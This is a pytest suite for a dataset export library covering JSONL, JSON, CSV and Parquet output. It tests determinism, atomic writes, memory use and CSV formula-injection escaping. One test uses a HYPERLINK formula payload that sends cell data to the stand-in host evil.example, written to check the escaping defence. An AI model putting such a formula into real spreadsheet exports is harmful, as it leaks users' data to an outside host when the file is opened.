"""Every writer: byte-identical re-exports, readable output, CSV injection safety, atomic files."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from distillation.export import DEFAULT_SPLITS, available_formats, export, spreadsheet_safe
from distillation.formats import read_chat_records, to_chat

FILE_FORMATS = ["jsonl", "json", "csv", "parquet", "openai", "alpaca", "sharegpt"]
STYLES_BY_FORMAT = {
    "jsonl": ["chat", "instruction", "sharegpt", "prompt_completion"],
    "json": ["chat", "instruction", "sharegpt", "prompt_completion"],
    "csv": ["chat", "instruction", "prompt_completion"],
    "parquet": ["chat", "instruction", "sharegpt", "prompt_completion"],
    "openai": ["chat"],
    "alpaca": ["instruction"],
    "sharegpt": ["sharegpt"],
}


def tree_bytes(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_registry_lists_every_format() -> None:
    assert set(available_formats()) >= {*FILE_FORMATS, "hf"}


@pytest.mark.parametrize(("fmt", "style"), [(f, s) for f, styles in STYLES_BY_FORMAT.items() for s in styles])
def test_same_input_gives_byte_identical_files(
    tmp_path: Path, records: list[dict[str, Any]], fmt: str, style: str
) -> None:
    first = export(records, fmt, tmp_path / "a", splits=DEFAULT_SPLITS, style=style)
    second = export(iter(records), fmt, tmp_path / "b", splits=DEFAULT_SPLITS, style=style)
    assert first.counts == second.counts
    a, b = tree_bytes(tmp_path / "a"), tree_bytes(tmp_path / "b")
    assert a == b
    assert len(a) == 3
    assert all(content for content in a.values())


@pytest.mark.parametrize("fmt", FILE_FORMATS)
def test_single_file_without_splits(tmp_path: Path, records: list[dict[str, Any]], fmt: str) -> None:
    result = export(records, fmt, tmp_path / "out.data")
    assert result.paths == {"all": tmp_path / "out.data"}
    assert result.counts == {"all": len(records)}
    assert [p.name for p in tmp_path.iterdir()] == ["out.data"]  # no leftover .partial file


@pytest.mark.parametrize(
    ("fmt", "style"), [("jsonl", "chat"), ("json", "chat"), ("alpaca", None), ("sharegpt", None)]
)
def test_json_exports_read_back_to_the_same_chats(
    tmp_path: Path, records: list[dict[str, Any]], fmt: str, style: str | None
) -> None:
    path = tmp_path / "out"
    export(records, fmt, path, style=style)
    back = [row.record for row in read_chat_records(path, file_format="jsonl" if fmt == "jsonl" else "json")]
    assert back == records


def test_jsonl_lines_are_compact_sorted_utf8(tmp_path: Path) -> None:
    record = {"metadata": {"z": 1, "a": "é"}, "messages": [{"role": "user", "content": "q"}]}
    export([record], "jsonl", tmp_path / "x.jsonl")
    assert (tmp_path / "x.jsonl").read_bytes() == (
        '{"messages":[{"content":"q","role":"user"}],"metadata":{"a":"é","z":1}}\n'.encode()
    )


def test_empty_json_export_is_a_valid_empty_array(tmp_path: Path) -> None:
    export([], "json", tmp_path / "x.json")
    assert json.loads((tmp_path / "x.json").read_text()) == []


def test_parquet_reads_back(tmp_path: Path, records: list[dict[str, Any]]) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    export(records, "parquet", tmp_path / "x.parquet")
    rows = pq.read_table(tmp_path / "x.parquet").to_pylist()
    assert [{"messages": r["messages"]} for r in rows] == [{"messages": r["messages"]} for r in records]
    assert [json.loads(r["metadata"]) for r in rows] == [r["metadata"] for r in records]


def test_parquet_row_groups_bound_memory(tmp_path: Path, records: list[dict[str, Any]]) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    many = records * 60  # 2400 rows: three row groups of at most 1000
    export(many, "parquet", tmp_path / "x.parquet")
    meta = pq.read_metadata(tmp_path / "x.parquet")
    assert meta.num_rows == len(many)
    assert meta.num_row_groups == 3


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_spreadsheets_evaluate_are_escaped(tmp_path: Path, prefix: str) -> None:
    payload = f'{prefix}HYPERLINK("http://evil.example/?"&A1)'
    record = {"messages": [{"role": "user", "content": payload}, {"role": "assistant", "content": payload}]}
    export([record], "csv", tmp_path / "x.csv")
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as handle:
        header, row = list(csv.reader(handle))
    assert header == ["system", "user", "assistant", "metadata"]
    assert row == ["", "'" + payload, "'" + payload, ""]


def test_csv_metadata_cells_are_escaped_too(tmp_path: Path) -> None:
    record = {"prompt": "p", "completion": "c", "metadata": {"note": "=1"}}
    export([record], "csv", tmp_path / "x.csv", style="prompt_completion")
    text = (tmp_path / "x.csv").read_text()
    assert text == 'prompt,completion,metadata\np,c,"{""note"":""=1""}"\n'
    assert spreadsheet_safe("safe text") == "safe text"
    assert spreadsheet_safe("") == ""


def test_csv_escaping_can_be_turned_off_for_programs(tmp_path: Path) -> None:
    record = {"messages": [{"role": "user", "content": "=1+1"}, {"role": "assistant", "content": "-2"}]}
    export([record], "csv", tmp_path / "x.csv", spreadsheet_safe=False, include_metadata=False)
    [row] = list(read_chat_records(tmp_path / "x.csv"))
    assert row.record == record


def test_csv_instruction_style_keeps_history_as_json(tmp_path: Path, records: list[dict[str, Any]]) -> None:
    export(records, "csv", tmp_path / "x.csv", style="instruction", spreadsheet_safe=False)
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert json.loads(rows[0]["history"]) == [["Question 0: ünï ✓ =x", "-0 @answer\twith tab"]]
    assert rows[1]["history"] == ""


def test_a_failed_export_leaves_no_files(tmp_path: Path, records: list[dict[str, Any]]) -> None:
    def explode() -> Iterator[dict[str, Any]]:
        yield from records[:5]
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError, match="database"):
        export(explode(), "jsonl", tmp_path / "out", splits=DEFAULT_SPLITS)
    assert list((tmp_path / "out").iterdir()) == []


@pytest.mark.parametrize("fmt", ["jsonl", "json", "csv", "openai"])
def test_text_writers_stream_with_flat_memory(tmp_path: Path, fmt: str) -> None:
    big = "x" * 10_000

    def generate() -> Iterator[dict[str, Any]]:
        for i in range(3000):  # about 30 MB of content in total
            yield {"messages": [{"role": "user", "content": f"{i}"}, {"role": "assistant", "content": big}]}

    tracemalloc.start()
    try:
        export(generate(), fmt, tmp_path / "out")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert (tmp_path / "out").stat().st_size > 30_000_000
    assert peak < 5_000_000


def test_surrogates_in_metadata_do_not_break_utf8_output(tmp_path: Path) -> None:
    record = {"messages": [{"role": "user", "content": "q"}], "metadata": {"bad": "\ud800"}}
    export([record], "jsonl", tmp_path / "x.jsonl")
    line = (tmp_path / "x.jsonl").read_bytes()
    line.decode("utf-8")
    assert json.loads(line)["metadata"] == {"bad": "\ud800"}


def test_exported_openai_file_has_only_openai_keys(tmp_path: Path, records: list[dict[str, Any]]) -> None:
    export(records, "openai", tmp_path / "x.jsonl")
    lines = [json.loads(line) for line in io.StringIO((tmp_path / "x.jsonl").read_text())]
    assert all(set(line) == {"messages"} for line in lines)
    assert [to_chat(line).record["messages"] for line in lines] == [r["messages"] for r in records]
